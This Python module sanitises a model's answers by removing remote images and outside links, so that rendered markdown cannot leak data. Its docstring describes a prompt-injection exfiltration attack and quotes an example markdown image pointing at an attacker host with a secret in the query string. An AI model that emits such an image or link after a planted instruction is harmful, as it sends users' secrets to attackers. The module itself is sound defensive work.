"""Nothing leaves through the answer: remote images and outside links are neutralised.

A planted instruction can make a model answer with `![x](https://attacker.example/log?q=<secret>)`:
a client that renders the answer as markdown or HTML fetches the image, and the secret leaves with
the request, without anyone clicking. A link does the same with one click. So the model's text
(answer, disclaimer, follow-up questions) is made plain before anyone sees it:

- **Images** (markdown `![alt](url)`, `![alt][ref]`, HTML `<img ...>` and any other tag that loads a
  URL) are removed, whatever their URL: `(image removed)`.
- **Markdown links** `[text](url)` and `<url>` autolinks keep their words, never their target
  (`text`, plus the URL as text only when a cited source contains it).
- **Raw URLs** (`https://…`, `www.…`, `mailto:`, `data:`, `javascript:`…) stay as text only when
  the cited sources contain that exact URL; others become `(link removed)`. Reference definitions
  (`[ref]: https://…`) go too.

Citation markers ("[1]", "[doc_42]", "[Lease, page 3]") are left alone: they are not links.
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterable
from dataclasses import dataclass

IMAGE_REMOVED = "(image removed)"
LINK_REMOVED = "(link removed)"

_SCHEME = r"(?:https?|ftp|file|data|javascript|vbscript|mailto|blob):"
# A raw URL: a scheme or "www.", then everything up to a space, a quote or a bracket.
_URL = re.compile(rf"(?:\b{_SCHEME}|\bwww\.|(?<![\w/])//(?=[\w-]+\.))[^\s<>\"'`)\]]+", re.I)
_TRAILING = ".,;:!?*_~"  # sentence punctuation after a URL is not part of it
_MARKDOWN_IMAGE = re.compile(r"!\[([^\[\]\n]{0,500})\](?:\([^()\n]{0,2000}\)|\[[^\[\]\n]{0,200}\])")
# Only a target that leaves the app: "[1](4.2)" is a citation marker and a clause number, not a link.
_MARKDOWN_LINK = re.compile(
    rf"\[([^\[\]\n]{{1,500}})\]\(\s*<?((?:{_SCHEME}|www\.|//)[^()\s<>]{{0,2000}})>?(?:\s+[\"'][^\"'\n]*[\"'])?\s*\)",
    re.I,
)
_AUTOLINK = re.compile(rf"<((?:{_SCHEME}|www\.)[^\s<>]*)>", re.I)
_REFERENCE = re.compile(
    rf"^[ \t]{{0,3}}\[[^\[\]\n]{{1,200}}\]:[ \t]*<?(?:{_SCHEME}|www\.|//).*$", re.M | re.I
)
# An HTML tag that fetches something when rendered (img, iframe, video, ...), or any tag with a URL.
_LOADING_TAG = re.compile(
    r"<\s*(?:img|image|picture|source|iframe|frame|embed|object|video|audio|svg|link|meta|script|style|"
    r"base|form|input|track)\b[^>\n]{0,2000}>?|<[a-z][^>\n]{0,2000}\b(?:src|srcset|href|action|data|poster|"
    r"background|formaction|xlink:href)\s*=[^>\n]{0,2000}>",
    re.I,
)
_CLOSING_TAG = re.compile(r"<\s*/\s*(?:a|img|iframe|video|audio|object|svg|script|style|picture)\s*>", re.I)


@dataclass(frozen=True)
class Neutralised:
    """`text` made plain, and how many `images` and `links` were taken out of it."""

    text: str
    images: int = 0
    links: int = 0


def neutralise(text: str, sources: Iterable[str]) -> Neutralised:
    """`text` with remote images removed and links kept only as text the `sources` contain (see the
    module docstring)."""
    if not text:
        return Neutralised(text or "")
    allowed = "\n".join(sources)
    counts: Counter[str] = Counter()

    def image(_match) -> str:
        counts["images"] += 1
        return IMAGE_REMOVED

    def markdown_link(match) -> str:
        words, target = match.group(1), match.group(2)
        if target in allowed:
            return f"{words} ({target})"
        counts["links"] += 1
        return words

    def autolink(match) -> str:
        return _raw_url(match.group(1), allowed, counts)

    text = _MARKDOWN_IMAGE.sub(image, text)
    text = _LOADING_TAG.sub(lambda m: image(m) if _is_image(m.group(0)) else _removed_link(counts), text)
    text = _CLOSING_TAG.sub("", text)
    text = _REFERENCE.sub(lambda m: _removed_link(counts), text)
    text = _MARKDOWN_LINK.sub(markdown_link, text)
    text = _AUTOLINK.sub(autolink, text)
    text = _URL.sub(lambda m: _raw_url(m.group(0), allowed, counts), text)
    return Neutralised(text, images=counts["images"], links=counts["links"])


def _is_image(tag: str) -> bool:
    return not re.match(r"<\s*a\b", tag, re.I)


def _removed_link(counts: Counter) -> str:
    counts["links"] += 1
    return LINK_REMOVED


def _raw_url(url: str, allowed: str, counts: Counter) -> str:
    """`url` as text when a source contains it; else LINK_REMOVED (trailing punctuation kept)."""
    core = url.rstrip(_TRAILING)
    if core and core in allowed:
        return url
    counts["links"] += 1
    return LINK_REMOVED + url[len(core) :]
